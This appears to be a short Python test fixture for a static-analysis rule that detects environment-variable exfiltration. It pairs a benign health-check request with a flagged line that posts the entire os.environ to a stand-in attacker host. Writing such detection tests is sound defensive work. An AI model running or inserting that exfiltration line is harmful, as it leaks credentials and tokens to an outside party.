import os

import requests

# ok: combination-environment-exfiltration
requests.get("https://status.example.com/health", timeout=5)
# ruleid: combination-environment-exfiltration
requests.post("https://collect.evil.example/diag", json=dict(os.environ), timeout=5)
